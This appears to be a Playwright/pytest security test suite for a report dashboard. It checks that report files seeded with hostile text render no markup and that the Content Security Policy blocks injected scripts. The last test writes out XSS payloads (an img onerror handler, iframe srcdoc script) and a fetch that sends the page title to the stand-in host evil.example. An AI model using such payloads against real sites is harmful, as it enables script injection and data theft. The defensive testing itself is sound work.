"""Hostile texts on every page, and what the policy keeps from running, in a real browser."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from playwright.sync_api import Page, expect

from ncubble.analysis.report.report import Report
from ncubble.dashboard.data.store import ReportStore
from ncubble.dashboard.pages.addresses import LaunchAddress
from ncubble.dashboard.pages.page import Page as DashboardPage
from ncubble.dashboard.pages.registry import PAGES
from tests.helpers.hostile_report import SCRIPTS, TAG, hostile_runs

from .conftest import serving

pytestmark = pytest.mark.browser
Open = Callable[..., Page]
OWNED = "() => document.querySelectorAll('[id^=own], #page img, #page iframe, #page script, svg a').length"
SETTLES_MS = 500


class Hostile(NamedTuple):
    """A dashboard of hostile report files, and the ids of their launches."""

    url: str
    ids: list[str]
    folder: Path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    folder = tmp_path_factory.mktemp("reports")
    hostile_runs(folder)
    (folder / f"{TAG}damaged.ncu-rep").write_bytes(b"NVR\0damaged")
    store = ReportStore([folder])
    assert store.start().wait(120)
    ids = [str(row["id"]) for row in store.rows()]
    assert len(ids) == 2 and len(store.failures()) == 1, store.failures()
    with serving(store) as url:
        yield Hostile(url, ids, folder)


def address(route: DashboardPage, ids: list[str]) -> str:
    """The address of a route that shows the given launches, with a hostile query."""
    strange = "&".join(f"{name}={TAG}{SCRIPTS[0]}" for name in ("search", "q", "kernel", "by", "sort", "line"))
    if issubclass(route.address, LaunchAddress):
        return f"{route.address.PATH}/{ids[0]}?{strange}"
    return f"{route.address.PATH}?{'&'.join(f'launch={one}' for one in ids)}&{strange}"


def test_the_report_files_hold_what_they_are_to_hold(hostile: Hostile) -> None:
    report = Report.open(hostile.folder / f"{TAG}0")
    one = report.launches.iloc[0]
    assert one["kernel"].startswith(TAG) and one["demangled"].startswith(TAG) and one["device"].startswith(TAG)
    assert report.rules["message"].str.startswith(SCRIPTS[0]).any() and report.rules["title"].str.startswith(TAG).any()
    assert any(SCRIPTS[1] in text and SCRIPTS[2] in text for text in report.files.values())
    assert report.metrics["metric"].str.startswith("<img").any()
    assert TAG in str(report.source["file"].iloc[0])


@pytest.mark.parametrize("route", PAGES, ids=lambda route: route.title)
def test_no_page_makes_markup_of_a_hostile_report(hostile: Hostile, open_page: Open, route: DashboardPage) -> None:
    page = open_page(f"{hostile.url}{address(route, hostile.ids)}")
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    expect(page.locator("#page h1, #page h2").first).to_be_visible()
    page.wait_for_timeout(SETTLES_MS)
    assert page.evaluate(OWNED) == 0
    assert page.title() != "owned"
    if route.address.PATH in ("/", "/kernel", "/open"):
        expect(page.locator("#page")).to_contain_text(TAG)


def adding(tag: str, **properties: str) -> str:
    """A script that puts an element with these properties into the page."""
    return f"() => document.body.append(Object.assign(document.createElement('{tag}'), {json.dumps(properties)}))"


def test_the_policy_stops_what_would_get_through(served: str, open_page: Open, request: pytest.FixtureRequest) -> None:
    request.node.expected_errors = ("Content Security Policy", "foreign: http", "status of 404")
    page = open_page(f"{served}/open")
    expect(page.locator("h1")).to_be_visible()
    page.evaluate(adding("script", textContent="window.ran = 1"))
    page.evaluate(adding("div", innerHTML='<img src=x onerror="window.ran = 1">'))
    page.evaluate(adding("script", src="https://evil.example/x.js"))
    page.evaluate(adding("iframe", srcdoc="<script>parent.ran = 1</script>"))
    page.wait_for_timeout(SETTLES_MS)
    assert page.evaluate("() => window.ran === undefined")
    sent = "() => fetch('http://evil.example/?' + document.title).then(() => 'sent', () => 'stopped')"
    assert page.evaluate(sent) == "stopped"
